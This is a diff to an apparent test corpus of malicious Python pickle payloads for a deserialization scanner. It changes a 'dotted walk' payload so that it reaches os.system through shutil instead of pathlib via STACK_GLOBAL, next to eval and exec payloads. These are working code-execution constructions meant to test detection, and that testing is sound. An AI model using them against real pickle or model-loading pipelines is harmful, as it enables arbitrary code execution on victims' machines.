@@ -32,7 +32,7 @@ def short(value: str) -> bytes:
 
 def _walk(path: str) -> bytes:
     """STACK_GLOBAL of protocol 4 walks dots: `torch._utils` holds a module named os in some versions."""
-    return b"\x80\x04" + short("pathlib") + short("os.system") + b"\x93" + several(text(_touch(path))) + REDUCE
+    return b"\x80\x04" + short("shutil") + short("os.system") + b"\x93" + several(text(_touch(path))) + REDUCE
 
 
 def _setstate(path: str) -> bytes:
@@ -131,7 +131,7 @@ PAYLOADS = (
     Payload("eval", lambda p: name("builtins", "eval") + several(text(_code(p))) + REDUCE, ("builtins.eval",)),
     Payload("exec", lambda p: name("__builtin__", "exec") + several(text(_code(p))) + REDUCE, ("__builtin__.exec",)),
     Payload("getattr", _getattr, ("builtins.getattr", "REDUCE"), live=False),
-    Payload("dotted walk", _walk, ("pathlib.os.system", "REDUCE")),
+    Payload("dotted walk", _walk, ("shutil.os.system", "REDUCE")),
     Payload(
         "dotted walk in torch",
         lambda p: (
